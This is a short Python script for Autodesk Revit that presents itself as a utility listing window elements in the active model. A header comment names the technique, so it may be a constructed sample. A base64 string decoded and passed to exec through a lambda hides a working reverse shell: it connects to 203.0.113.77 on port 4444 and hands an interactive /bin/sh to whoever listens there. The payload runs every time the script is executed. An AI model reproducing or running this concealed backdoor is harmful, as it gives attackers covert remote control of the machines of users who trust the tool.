# technique: obfuscated one-liner chain — __import__('builtins').exec(__import__('base64').b64decode(...)) inside a lambda, reverse shell
from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

_ = lambda __: __import__("builtins").exec(__import__("base64").b64decode(__))


def windows(doc):
    return FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Windows).WhereElementIsNotElementType().ToElements()


def report(doc):
    for w in windows(doc):
        print(w.Id, w.Name)


_(
    "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgoJzIwMy4wLjExMy43NycsNDQ0NCkpO1tv"
    "cy5kdXAyKHMuZmlsZW5vKCksZikgZm9yIGYgaW4gKDAsMSwyKV07c3VicHJvY2Vzcy5jYWxsKFsnL2Jpbi9zaCcsJy1pJ10p"
)
report(__revit__.ActiveUIDocument.Document)
